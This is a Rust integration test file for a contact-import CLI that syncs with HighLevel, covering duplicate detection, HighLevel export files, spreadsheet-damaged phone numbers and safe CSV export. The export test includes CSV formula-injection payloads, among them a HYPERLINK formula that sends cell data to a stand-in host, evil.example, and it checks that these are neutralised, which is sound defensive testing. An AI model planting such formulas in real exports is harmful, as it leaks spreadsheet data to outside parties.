//! When two lines, two contacts or two notations are the same person, and files as HighLevel writes them.

use std::os::unix::process::ExitStatusExt;

use serde_json::{Value, json};

use crate::people::{mapped, writes};
use crate::support::{World, text};

async fn contacts(world: &World) -> Vec<Value> {
    world.books("/contacts").await
}

fn rows(output: &[u8]) -> Vec<Value> {
    text(output)
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

async fn import(world: &World, file: &str) -> (Option<i32>, Vec<Value>, String) {
    std::fs::write(world.path("people.csv"), file).unwrap();
    let output = world
        .output(&["profile", "import", "people.csv", "--json"])
        .await;
    (
        output.status.code(),
        rows(&output.stdout),
        text(&output.stderr),
    )
}

/// The location of the sandbox is in the United States.
#[tokio::test(flavor = "multi_thread")]
async fn a_person_twice_in_a_file_is_one_contact() {
    let world = mapped().await;
    let file = "email,phone,name\n\
        Ada@Example.com,,Ada King\n\
        ada@example.COM,,Ada King\n\
        ,+1 (201) 555-0115,Bob Two\n\
        ,12015550115,Bob Two\n\
        ,(201) 555-0115,Bob Two\n";
    let (code, done, told) = import(&world, file).await;
    assert_eq!(code, Some(0), "{told}");
    let outcomes: Vec<_> = done[..5].iter().map(|row| &row["outcome"]).collect();
    assert_eq!(
        outcomes,
        ["created", "unchanged", "created", "unchanged", "unchanged"]
    );
    assert_eq!(done[0]["contact"], done[1]["contact"]);
    assert_eq!(done[2]["contact"], done[4]["contact"]);
    assert_eq!(contacts(&world).await.len(), 2);
    let before = writes(&world).await;
    let (_, again, _) = import(&world, file).await;
    assert_eq!(again[5]["summary"]["unchanged"], 5, "{again:?}");
    assert_eq!(writes(&world).await, before);
}

#[tokio::test(flavor = "multi_thread")]
async fn two_people_in_one_are_told_and_nothing_is_written() {
    let world = mapped().await;
    let by_phone = world
        .control(
            "/contacts",
            json!({ "firstName": "P", "phone": "+12015550150" }),
        )
        .await;
    let by_email = world
        .control(
            "/contacts",
            json!({ "firstName": "M", "email": "mail@example.com" }),
        )
        .await;
    let ids = [&by_email["id"], &by_phone["id"]].map(|id| id.as_str().unwrap());
    let before = writes(&world).await;
    let create = [
        "profile",
        "create",
        "--email",
        "Mail@example.com",
        "--phone",
    ];
    for phone in ["+12015550150", "(201) 555-0150"] {
        let arguments = [&create[..], &[phone, "--name", "New Name"]].concat();
        let output = world.output(&arguments).await;
        assert_eq!(output.status.code(), Some(2));
        let told = text(&output.stderr);
        assert!(ids.iter().all(|id| told.contains(id)), "{told}");
        assert!(told.contains("two people"), "{told}");
    }
    let file =
        "email,phone,name\nmail@example.com,+12015550150,New\nnew@example.com,+12015550151,Good\n";
    let (code, done, _) = import(&world, file).await;
    assert_eq!(code, Some(2));
    let problem = done[0]["problem"].as_str().unwrap();
    assert!(ids.iter().all(|id| problem.contains(id)), "{problem}");
    assert_eq!(done[0]["line"], 2);
    assert_eq!(done[1]["outcome"], "created", "the other lines are taken");
    assert_eq!(writes(&world).await, before + 1);
    let shown = world.output(&["profile", "show", ids[0]]).await;
    assert!(
        !text(&shown.stdout).contains("profile "),
        "no profile was made"
    );

    // A number that two people share is no reason to take them for one.
    let shared = "email,phone,name\nann@example.com,+12015550170,Ann Lee\nben@example.com,(201) 555-0170,Ben Lee\nann.lee@example.org,+12015550170,ann  lee\n";
    std::fs::write(world.path("people.csv"), shared).unwrap();
    let output = world
        .output(&["profile", "import", "people.csv", "--dry-run", "--json"])
        .await;
    let done = rows(&output.stdout);
    let problem = done[1]["problem"].as_str().unwrap();
    assert!(problem.contains("its phone is of line 2"), "{problem}");
    let (code, done, _) = import(&world, shared).await;
    assert_eq!(code, Some(2));
    assert_eq!(done[0]["outcome"], "created", "{done:?}");
    let problem = done[1]["problem"].as_str().unwrap();
    let ann = done[0]["contact"].as_str().unwrap();
    assert!(
        problem.contains(&format!(
            "its phone is of contact {ann}, who has another email"
        )),
        "{problem}"
    );
    assert_eq!(
        done[2]["contact"], done[0]["contact"],
        "a new address of the same person"
    );
    let all = contacts(&world).await;
    let ann = all.iter().find(|contact| contact["id"] == ann).unwrap();
    assert_eq!(ann["firstName"], "Ann", "{ann}");
    assert!(
        all.iter()
            .all(|contact| contact["email"] != "ben@example.com")
    );

    // Where no name is given, the number says who it is, and the import says so.
    let nameless = "email,phone,name\ncy@example.com,+12015550171,Cy Ross\ncy.ross@example.org,+12015550171,\n";
    let (code, done, _) = import(&world, nameless).await;
    assert_eq!(code, Some(0), "{done:?}");
    assert_eq!(done[1]["contact"], done[0]["contact"]);
    assert_eq!(
        [&done[0]["byPhoneAlone"], &done[1]["byPhoneAlone"]],
        [&json!(false), &json!(true)]
    );
    let nameless = nameless.replace("0171", "0172").replace("cy", "di");
    std::fs::write(world.path("people.csv"), nameless).unwrap();
    for arguments in [&["--dry-run"][..], &[]] {
        let arguments = [&["profile", "import", "people.csv"], arguments].concat();
        let told = world.succeed(&arguments).await;
        assert!(
            told.contains("line 3: ") && told.contains("found by the phone alone"),
            "{told}"
        );
    }

    // The two of a file that are about to be created, also in a dry run.
    let file = "email,phone\na@example.com,\n,+12015550160\na@example.com,+12015550160\n";
    std::fs::write(world.path("people.csv"), file).unwrap();
    let output = world
        .output(&["profile", "import", "people.csv", "--dry-run", "--json"])
        .await;
    let done = rows(&output.stdout);
    let problem = done[2]["problem"].as_str().unwrap();
    assert!(
        problem.contains("line 2") && problem.contains("line 3"),
        "{problem}"
    );
    let (_, done, _) = import(&world, file).await;
    assert_eq!(done[2]["outcome"], "wrong", "{done:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn files_of_highlevel_are_imported_as_they_are() {
    let world = mapped().await;
    let export = "\"Contact Id\",\"First Name\",\"Last Name\",\"Business Name\",\"Phone\",\"Email\",\"Created\",\"Last Activity\",\"Tags\",\"Trees Planned\",\"City\"\n\
        \"abc\",\"Jane\",\"Doe\",\"\",\"+12015550111\",\"jane@example.com\",\"2026-01-01T10:00:00-05:00\",\"\",\"vip,lead\",\"3\",\"Rome\"\n";
    let (code, done, told) = import(&world, export).await;
    assert_eq!(code, Some(0), "{told}");
    assert_eq!(
        done[1]["summary"]["passedOver"],
        json!([
            "Contact Id",
            "Business Name",
            "Created",
            "Last Activity",
            "Tags"
        ])
    );
    let contact = done[0]["contact"].as_str().unwrap();
    let shown = world.highlevel(&format!("/contacts/{contact}")).await;
    assert_eq!(
        (
            &shown["contact"]["firstName"],
            &shown["contact"]["lastName"]
        ),
        (&json!("Jane"), &json!("Doe"))
    );
    assert_eq!(shown["contact"]["phone"], "+12015550111");
    assert_eq!(shown["contact"]["city"], "Rome");
    assert_eq!(shown["contact"]["customFields"][0]["value"], 3);

    std::fs::write(
        world.path("people.csv"),
        "First Name,Last Name,Email,Phone,Company,Tags,Status,Created Date,Additional Phone\n\
         John,Doe,john@example.com,+12015550112,ABC Corp,\"VIP, Lead\",New,01/01/2024,+12015550113\n",
    )
    .unwrap();
    let said = world.succeed(&["profile", "import", "people.csv"]).await;
    assert!(
        said.contains("passed over, as no field is mapped to them: \"Company\", \"Tags\""),
        "{said}"
    );
    assert_eq!(contacts(&world).await.len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_spreadsheet_broke_is_refused_and_all_wrong_titles_are_told() {
    let world = mapped().await;
    let file = "email,phone\nd@example.com,12015550115.0\ne@example.com,1.2E+10\nf@example.com,+12015550119\n";
    let (code, done, _) = import(&world, file).await;
    assert_eq!(code, Some(2));
    for row in &done[..2] {
        let problem = row["problem"].as_str().unwrap();
        assert!(
            problem.contains("field \"phone\"") && problem.contains("spreadsheet"),
            "{problem}"
        );
    }
    assert_eq!(done[0]["line"], 2);
    assert!(
        contacts(&world)
            .await
            .iter()
            .all(|one| one["email"] == "f@example.com")
    );

    let (code, _, told) = import(&world, "emial,phone,Phone,Nonsense\na@example.com,,,\n").await;
    assert_eq!(code, Some(2));
    for expected in [
        "people.csv:1: there is no field \"emial\"; did you mean \"email\"?",
        "people.csv:1: the columns \"phone\" and \"Phone\" are both phone",
        "people.csv:1: there is no field \"Nonsense\"",
    ] {
        assert!(told.contains(expected), "{told}");
    }
}

/// What an export made harmless is imported as it was.
#[tokio::test(flavor = "multi_thread")]
async fn exports_run_nothing_in_a_spreadsheet() {
    let world = mapped().await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
        "@SUM(1+1)",
        "+1+2",
        "-2+3",
        "\t=1+1",
    ];
    for (n, name) in names.iter().enumerate() {
        let body = json!({ "firstName": name, "email": format!("a{n}@example.com"), "phone": format!("+1201555018{n}") });
        world.control("/contacts", body).await;
    }
    world
        .succeed(&["backfill", "--kind", "contacts", "--to", "x.csv"])
        .await;
    let mut reader = csv::Reader::from_path(world.path("x.csv")).unwrap();
    let titles = reader.headers().unwrap().clone();
    let column = |title: &str| titles.iter().position(|one| one == title).unwrap();
    let (first, phone) = (column("firstName"), column("phone"));
    let mut seen = 0;
    for record in reader.records() {
        let record = record.unwrap();
        assert!(record[first].starts_with('\''), "{record:?}");
        assert!(names.contains(&&record[first][1..]), "{record:?}");
        assert!(
            record[phone].starts_with("+1201555018"),
            "numbers stay: {record:?}"
        );
        let harmless = record
            .iter()
            .enumerate()
            .all(|(n, cell)| n == phone || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
        assert!(harmless, "{record:?}");
        seen += 1;
    }
    assert_eq!(seen, names.len());

    let (code, done, told) = import(&world, "email,name\nz@example.com,'=1+1\n").await;
    assert_eq!(code, Some(0), "{told}");
    let contact = done[0]["contact"].as_str().unwrap();
    let shown = world.highlevel(&format!("/contacts/{contact}")).await;
    assert_eq!(shown["contact"]["firstName"], "=1+1");
}

/// What `canopy run` would do by itself is done meanwhile; the imported people start nothing.
#[tokio::test(flavor = "multi_thread")]
async fn files_are_imported_and_locations_read_beside_a_running_canopy() {
    let world = mapped().await;
    let running = world.start().await;
    let lines: Vec<_> = (0..5)
        .map(|n| format!("p{n}@example.com,P {n}\n"))
        .collect();
    let (code, done, told) = import(&world, &format!("email,name\n{}", lines.concat())).await;
    assert_eq!(code, Some(0), "{told}");
    assert_eq!(done[5]["summary"]["created"], 5);
    let created = ["profile", "create", "--email", "q@example.com", "--json"];
    world.succeed(&created).await;
    world
        .succeed(&["backfill", "--kind", "contacts", "--to", "all.jsonl"])
        .await;
    let all = std::fs::read_to_string(world.path("all.jsonl")).unwrap();
    assert_eq!(all.lines().count(), 6);
    running.stop().await;
    world.succeed(&["run", "--once"]).await;
    assert!(
        world.books("/purchases").await.is_empty(),
        "what we created starts nothing"
    );
    assert_eq!(contacts(&world).await.len(), 6);
}

/// The contact shows up before its creator could note that it is its own.
#[tokio::test(flavor = "multi_thread")]
async fn a_contact_that_is_being_created_starts_nothing_in_a_running_canopy() {
    let world = mapped().await;
    let killed = world
        .canopy(&[
            "profile",
            "create",
            "--email",
            "Ada@example.com",
            "--phone",
            "(201) 555-0115",
        ])
        .env("E2E_KILL", "AfterCall:adopt:1")
        .output()
        .await
        .unwrap();
    assert_eq!(killed.status.signal(), Some(9), "{}", text(&killed.stderr));
    assert_eq!(contacts(&world).await.len(), 1);
    world.succeed(&["run", "--once"]).await;
    assert!(world.books("/purchases").await.is_empty());
}
